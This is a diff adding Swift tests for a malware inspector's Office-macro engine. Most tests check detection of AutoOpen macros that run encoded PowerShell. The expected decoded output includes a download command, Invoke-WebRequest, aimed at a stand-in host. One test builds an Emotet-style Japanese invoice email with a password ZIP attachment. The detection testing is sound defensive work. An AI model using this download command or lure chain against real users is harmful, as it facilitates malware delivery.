@@ -1,0 +1,101 @@
+import Crypto
+import Foundation
+import Testing
+
+@testable import Inspection
+
+/// The Office path of the engine on the benign specimens of scripts/make-vba-fixtures.py and the malformed compound
+/// files of scripts/make-cfb-fixtures.py.
+@Suite struct OfficeEngineTests {
+    static func vba(_ name: String) throws -> ScanResult {
+        let bytes = try RepoFile.bytes("Tests/OfficeMacrosTests/Resources/vba/\(name)")
+        return Inspector().scan(bytes[...], name: name, input: name)
+    }
+
+    @Test(arguments: ["autoopen-powershell.docm", "autoopen-powershell.doc"])
+    func autoOpenShellPowerShellIsMaliciousAndDecoded(name: String) throws {
+        let r = try Self.vba(name)
+        #expect(r.verdict == .malicious)
+        #expect(r.has(.macroMalicious))
+        #expect(r.findings.contains { $0.id == RuleID.macroAutoExec.rawValue && $0.evidence.detail == "AutoOpen" })
+        // The PowerShell -EncodedCommand is decoded in the report, with the URL it hides.
+        let decoded = r.findings(.macroDecoded).map(\.message).joined(separator: "\n")
+        #expect(decoded.contains("Invoke-WebRequest https://dl.example.invalid/a.txt"), "\(decoded)")
+        #expect(r.findings.contains { $0.id == RuleID.macroIOC.rawValue && $0.message.contains("dl.example.invalid") })
+        // Evidence points at the module and line.
+        let autoOpen = r.findings.first { $0.evidence.detail == "AutoOpen" }
+        #expect(autoOpen?.evidence.path.hasSuffix("VBA/Module1") == true || autoOpen?.evidence.path.contains("VBA/") == true)
+        #expect(autoOpen?.evidence.line != nil)
+    }
+
+    @Test func macroWithoutAutoExecIsNotMalicious() throws {
+        let r = try Self.vba("format-table.docm")
+        #expect(r.has(.macroPresent))
+        #expect(r.verdict != .malicious)
+        #expect(!r.has(.macroMalicious))
+    }
+
+    @Test func cp932ModuleDecodesToJapanese() throws {
+        let r = try Self.vba("cp932.docm")
+        #expect(r.verdict != .malicious)
+        // olevba's decoding of the same module (golden by scripts/make-vba-fixtures.py): the module artifact's
+        // SHA-256 must be that of the same text in UTF-8, which says `' 請求書を開く` and `MsgBox "こんにちは"`.
+        struct Golden: Decodable {
+            struct Project: Decodable { struct Module: Decodable { var name: String; var code: String }; var modules: [Module] }
+            var projects: [Project]
+        }
+        let golden = try JSONDecoder().decode(
+            Golden.self, from: Data(try RepoFile.bytes("Tests/OfficeMacrosTests/Resources/vba/golden/cp932.docm.json")))
+        let expected = try #require(golden.projects.first?.modules.first { $0.name == "Module1" }).code
+        #expect(expected.contains("MsgBox \"こんにちは\""))
+        let module = try #require(r.nodes.first { $0.properties?["vba.module"] == "Module1" })
+        #expect(module.properties?["vba.codepage"] == "932")
+        #expect(module.hashes.sha256 == SHA256.hash(data: Array(expected.utf8)).map { String(format: "%02x", $0) }.joined())
+    }
+
+    @Test func everyMalformedCompoundFileIsAFindingNotACrash() throws {
+        let dir = RepoFile.root.appendingPathComponent("Tests/CompoundFileTests/Resources/malformed")
+        let names = try FileManager.default.contentsOfDirectory(atPath: dir.path).filter { $0.hasSuffix(".cfb") }
+        #expect(names.count >= 20)
+        var withFindings = 0
+        for name in names.sorted() {
+            let bytes = Array(try Data(contentsOf: dir.appendingPathComponent(name)))
+            let r = Inspector().scan(bytes[...], name: name, input: name)
+            #expect(r.error == nil, "\(name)")
+            if r.has(.officeMalformed) { withFindings += 1 }
+        }
+        // Nearly every specimen is reported; a few (duplicate names, trailing data) are legal enough to open cleanly.
+        #expect(withFindings * 10 >= names.count * 8, "\(withFindings) of \(names.count)")
+    }
+
+    @Test func aMacroDocumentInAPasswordZIPInJapaneseMailIsMalicious() throws {
+        // The Emotet chain: mail → password ZIP (password in the body) → .doc with AutoOpen → PowerShell.
+        let doc = try RepoFile.bytes("Tests/OfficeMacrosTests/Resources/vba/autoopen-powershell.doc")
+        let zip = StoredZIP.make([("請求書.doc", doc)])
+        let b64 = Data(zip).base64EncodedString(options: [.lineLength76Characters, .endLineWithLineFeed])
+        let mail = """
+            From: =?UTF-8?B?57WM55CG6YOoIOWxseeUsA==?= <yamada@partner.example.invalid>
+            To: tanaka@customer.example.invalid
+            Subject: =?UTF-8?B?UmU6IOiri+axguabuA==?=
+            MIME-Version: 1.0
+            Content-Type: multipart/mixed; boundary="b"
+
+            --b
+            Content-Type: text/plain; charset=utf-8
+
+            請求書をお送りします。
+            --b
+            Content-Type: application/zip
+            Content-Disposition: attachment; filename="invoice.zip"
+            Content-Transfer-Encoding: base64
+
+            \(b64)
+            --b--
+
+            """
+        let r = Inspector().scan(Array(mail.utf8)[...], input: "mail.eml")
+        #expect(r.verdict == .malicious)
+        let f = r.findings(.macroMalicious).first
+        #expect(f?.evidence.path.hasPrefix("message/attachment[1] invoice.zip/請求書.doc") == true)
+    }
+}
